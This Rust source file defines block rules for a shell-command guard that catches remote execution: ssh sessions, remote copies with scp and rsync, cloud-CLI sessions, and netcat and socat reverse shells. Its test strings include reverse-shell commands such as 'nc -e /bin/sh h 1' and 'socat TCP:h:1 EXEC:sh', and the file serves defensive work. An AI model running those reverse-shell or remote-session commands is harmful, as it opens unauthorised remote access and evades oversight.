//! Remote execution: shells on other machines, and shells for other machines.

use super::{Rule, always};
use crate::shell::guard::options::{Grammar, NamedCommand};

const SSH: Grammar = Grammar::leading("B b c D E e F I i J L l m O o p Q R S W w");

/// `host:path`, `user@host:path`, `host::module`, `rsync://host/path`.
fn is_remote(word: &str) -> bool {
    let Some((host, rest)) = word.split_once(':') else { return false };
    let url = rest.starts_with("//");
    !host.is_empty() && !host.contains('/') && (!url || matches!(host, "rsync" | "scp" | "sftp" | "ssh"))
}

fn runs_program(call: &NamedCommand<'_>) -> bool {
    let grammar = "e c g G i m o p q s T w x X exec sh-exec lua-exec";
    call.has(grammar, "e c exec sh-exec lua-exec")
}

pub(super) const RULES: &[Rule] = &[
    Rule {
        name: "remote",
        why: "runs a shell on another machine",
        programs: "ssh slogin autossh dbclient",
        when: |call| !call.operands(SSH).is_empty(),
        stops: &["ssh host", "ssh -l root host", "ssh -p 22 u@h ls"],
        spares: &["ssh -V", "ssh-keygen -lf key.pub"],
    },
    Rule {
        name: "remote",
        why: "opens a session on another machine",
        programs: "sftp mosh rsh rlogin rexec ssh-copy-id sshpass ftp lftp tftp ncftp pdsh clush psexec plink \
                   winrs sshfs pssh parallel-ssh",
        when: always,
        stops: &["sftp host", "ssh-copy-id host", "ftp host"],
        spares: &["grep sftp x"],
    },
    Rule {
        name: "remote",
        why: "copies to or from another machine",
        programs: "scp rsync pscp rcp",
        when: |call| call.operands("e P i o F l c J S f B M T").iter().any(|word| is_remote(word)),
        stops: &["scp x host:", "rsync -e ssh a host:b", "rsync -a h::m ."],
        spares: &["scp a b", "rsync -a a/ b/"],
    },
    Rule {
        name: "remote-shell",
        why: "ties a program to a connection",
        programs: "nc ncat netcat nc.traditional nc.openbsd",
        when: runs_program,
        stops: &["nc -e /bin/sh h 1", "ncat --exec sh h 1", "nc -lvp 4444 -e sh"],
        spares: &["nc -zv localhost 80"],
    },
    Rule {
        name: "remote-shell",
        why: "ties a program to a connection",
        programs: "socat",
        when: |call| {
            let runs = |word: &str| {
                ["exec:", "system:", "shell:"].iter().any(|kind| word.to_ascii_lowercase().starts_with(kind))
            };
            call.args.iter().any(|arg| runs(arg.as_str()))
        },
        stops: &["socat TCP:h:1 EXEC:sh"],
        spares: &["socat -V"],
    },
    Rule {
        name: "remote",
        why: "opens a session on another machine",
        programs: "vagrant gcloud aws az flyctl fly heroku doctl",
        when: |call| {
            call.has_arg("ssh scp start-session ps:exec execute-command")
                || (call.name == "heroku" && call.has_arg("run"))
        },
        stops: &["vagrant ssh", "gcloud compute ssh vm", "aws ssm start-session --target i"],
        spares: &["aws s3 ls", "vagrant status"],
    },
];
